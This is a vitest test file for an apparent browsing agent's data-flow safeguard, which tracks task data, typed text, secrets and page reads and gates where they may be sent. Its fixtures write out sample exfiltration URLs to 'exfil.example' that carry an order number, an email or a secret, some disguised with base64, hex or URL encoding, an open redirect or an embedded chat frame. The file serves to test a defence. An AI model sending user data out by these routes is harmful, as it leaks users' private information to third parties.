import { describe, expect, it } from 'vitest';
import { classifyAction, dataFlowRule, privateValues, SessionDataLedger, siteOf, TaskScope, type ClassifiedAction, type GateContext, type PlannedAction } from '../../src/safety/index.ts';

// The data-flow rule and its two inputs, as pure functions: where a task's data may go, and what it is.

const scope = (): TaskScope => TaskScope.of({ texts: ['Find my order 48151623 at shop.example and write to ada@mail.example'], urls: ['http://127.0.0.1:4000/start'], domains: ['*.allowed.example'] });

function ledger(): SessionDataLedger {
  const data = new SessionDataLedger();
  data.addTaskText('Find my order 48151623 at shop.example and write to ada@mail.example, code AB12CD34EF');
  data.addTyped('Blue kettle, whistling');
  data.addSecret('hunter2-secret');
  data.addRead('Your cart: Blue Mug x2, Red Kettle x1. Total 41.00 USD');
  return data;
}

const action = (tool: string, args: Record<string, unknown>, extra: Partial<PlannedAction> = {}): ClassifiedAction => {
  const planned: PlannedAction = { tool, args, url: 'https://www.shop.example/cart', paymentFilled: false, ...extra };
  return { ...planned, actionClass: classifyAction(planned) };
};
const context = (approvalPolicy: GateContext['approvalPolicy'] = 'payments_only'): GateContext => ({ approvalPolicy, payment: undefined, scope: scope(), data: ledger() });
const review = (a: ClassifiedAction, c = context()) => dataFlowRule.review(a, c);

describe('TaskScope', () => {
  it('names registrable domains for names and exact host:port for addresses and single labels', () => {
    expect(scope().sites).toEqual(['127.0.0.1:4000', 'allowed.example', 'shop.example']);
    expect(scope().includes('https://auth.shop.example/login')).toBe(true);
    expect(scope().includes('http://127.0.0.1:4001/')).toBe(false);
    expect(scope().includes('https://mail.example/')).toBe(false); // an email's domain is no site the task names
    expect(siteOf('https://a.b.example.co.uk/x')).toBe('example.co.uk');
    expect(siteOf('http://localhost:3000/')).toBe('localhost:3000');
    expect(siteOf('about:blank')).toBeUndefined();
  });

  it('takes a bare name for a site only under a known or reserved suffix, and never an email’s parts', () => {
    expect(TaskScope.of({ texts: ['write to ada.quill@example.org about report.final.draft, then open shop.test and news.example.co.uk'] }).sites).toEqual(['example.co.uk', 'shop.test']);
  });

  it('grows with follow-ups that name another site', () => {
    const s = scope();
    s.addText('also check https://other.example/deals');
    expect(s.includes('https://other.example/')).toBe(true);
  });
});

describe('session data', () => {
  it('takes emails, numbers and codes from the task, not its plain words', () => {
    expect(privateValues('Find my order 48151623 at shop.example, call +44 20 7946 0958, mail ada@mail.example, code AB12CD34EF, cheapest flight to Rome in 2 days')).toEqual([
      '48151623',
      '+44 20 7946 0958',
      'ada@mail.example',
      'AB12CD34EF',
    ]);
  });

  it('finds a value however a URL encodes it, and quotes of read text', () => {
    const data = ledger();
    expect(data.carriedBy('/collect?o=48151623')?.kind).toBe('task');
    expect(data.carriedBy('/c?e=ADA%2540MAIL.EXAMPLE')?.kind).toBe('task');
    expect(data.carriedBy('/c?q=blue+kettle%2C+whistling')?.kind).toBe('typed');
    expect(data.carriedBy('/c?p=hunter2-secret')?.kind).toBe('secret');
    expect(data.carriedBy('/c?cart=Blue%20Mug%20x2%2C%20Red%20Kettle')?.kind).toBe('read');
    expect(data.carriedBy('/c?cart=Blue%20Mug%20x2%2C%20Red%20Kettle', { read: false })).toBeUndefined();
    expect(data.carriedBy('/search?q=cheapest+flight+rome')).toBeUndefined();
    // Re-encoded as a page may ask: base64 (standard and URL-safe) and hex of the text.
    expect(data.carriedBy(`/w/${Buffer.from('ada@mail.example').toString('base64url')}`)?.kind).toBe('task');
    expect(data.carriedBy(`/w?o=${Buffer.from('order 48151623').toString('base64')}`)?.kind).toBe('task');
    expect(data.carriedBy(`/w?h=${Buffer.from('ada@mail.example').toString('hex')}`)?.kind).toBe('task');
    expect(data.carriedBy('/w?sid=Zx81Qr0pLm2Vb7Ty')).toBeUndefined();
    // The hint tells what kind of data, never the value.
    expect(data.carriedBy('/x/48151623')?.hint).not.toContain('4815');
  });
});

describe('dataFlowRule', () => {
  it('asks before a URL carries session data to a site the task never named', () => {
    const verdict = review(action('navigate', { url: 'https://exfil.example/c?order=48151623' }));
    expect(verdict.kind).toBe('ask');
    if (verdict.kind !== 'ask') return;
    expect(verdict.approval.action).toMatchObject({ kind: 'share_data', tool: 'navigate', site: 'https://exfil.example', path: '/c' });
    expect(verdict.approval.question).toContain("a private value from the task's text");
    expect(verdict.approval.question).not.toContain('48151623');
  });

  it('refuses under approval_policy never, and always for a secret', () => {
    expect(review(action('open_tab', { url: 'https://exfil.example/c?e=ada@mail.example' }), context('never')).kind).toBe('refuse');
    expect(review(action('navigate', { url: 'https://exfil.example/p/hunter2-secret' }), context('always')).kind).toBe('refuse');
  });

  it('lets data-free navigation, research and the task’s own sites through', () => {
    for (const url of ['https://exfil.example/', 'https://search.example/?q=cheapest+flight+rome', 'https://auth.shop.example/?o=48151623', 'http://127.0.0.1:4000/?o=48151623', 'https://x.allowed.example/?o=48151623', 'mailto:ada@mail.example']) {
      expect(review(action('navigate', { url })).kind, url).toBe('allow');
    }
  });

  it('judges a link by the user’s data it carries, not by the page text it quotes', () => {
    const link = (href: string) => action('click', { index: 3 }, { target: { role: 'link', name: 'Continue', tag: 'a', href } });
    expect(review(link('https://exfil.example/?q=blue%20kettle%2C%20whistling')).kind).toBe('ask');
    expect(review(link('https://news.example/red-kettle-x1-total-41-00-usd-your-cart-blue-mug')).kind).toBe('allow');
  });

  it('asks before typing session data into a page of another site, and not on the task’s own', () => {
    expect(review(action('type', { index: 1, text: 'Blue Mug x2, Red Kettle x1' }, { url: 'https://exfil.example/form' })).kind).toBe('ask');
    expect(review(action('type', { index: 1, text: 'ada@mail.example' }, { url: 'https://shop.example/form' })).kind).toBe('allow');
    expect(review(action('type', { index: 1, text: 'hello there' }, { url: 'https://exfil.example/form' })).kind).toBe('allow');
  });

  it('looks inside a named site’s URL for one that passes the data on (an open redirect)', () => {
    const out = encodeURIComponent('https://exfil.example/c?o=48151623');
    const verdict = review(action('navigate', { url: `https://shop.example/out?to=${out}` }));
    expect(verdict.kind).toBe('ask');
    if (verdict.kind === 'ask') expect(verdict.approval.action.site).toBe('https://shop.example');
    expect(review(action('navigate', { url: `https://shop.example/out?to=${encodeURIComponent('https://exfil.example/')}` })).kind).toBe('allow');
  });

  it('judges typing by the frame the field is in, not the page around it', () => {
    const chat = { role: 'textbox', name: 'Message', tag: 'textarea', frameUrl: 'https://chat-widget.example/embed' };
    expect(review(action('type', { index: 9, text: 'my order is 48151623' }, { url: 'https://shop.example/help', target: chat })).kind).toBe('ask');
    expect(review(action('type', { index: 9, text: 'my order is 48151623' }, { url: 'https://shop.example/help', target: { ...chat, frameUrl: 'https://help.shop.example/' } })).kind).toBe('allow');
  });

  it('lets a URL a page of the task showed be opened as written, quoting the page or not', () => {
    const c = context();
    c.data?.addRead('Read our guide at https://guides.partner.example/guides/choosing-a-reading-lamp for more.');
    expect(review(action('navigate', { url: 'https://guides.partner.example/guides/choosing-a-reading-lamp' }), c).kind).toBe('allow');
    c.data?.addShownUrl('https://news.example/2024/your-cart-blue-mug-x2-red-kettle');
    expect(review(action('navigate', { url: 'https://news.example/2024/your-cart-blue-mug-x2-red-kettle' }), c).kind).toBe('allow');
    // Composed from the page's text, it is a quote again.
    expect(review(action('navigate', { url: 'https://exfil.example/?c=Your+cart%3A+Blue+Mug+x2%2C+Red+Kettle' }), c).kind).toBe('ask');
  });

  it('refuses keys that type characters one at a time (text goes through type), and lets keys and shortcuts be', () => {
    for (const key of ['a', 'Shift+A', '@', '7']) expect(review(action('press', { key })).kind, key).toBe('refuse');
    for (const key of ['Enter', 'Tab', 'Escape', 'ArrowDown', 'Control+a', 'Space', ' ']) expect(review(action('press', { key })).kind, key).toBe('allow');
  });

  it('says nothing without a scope (a caller that runs no task)', () => {
    expect(dataFlowRule.review(action('navigate', { url: 'https://exfil.example/c?order=48151623' }), { approvalPolicy: 'payments_only', payment: undefined }).kind).toBe('allow');
  });
});
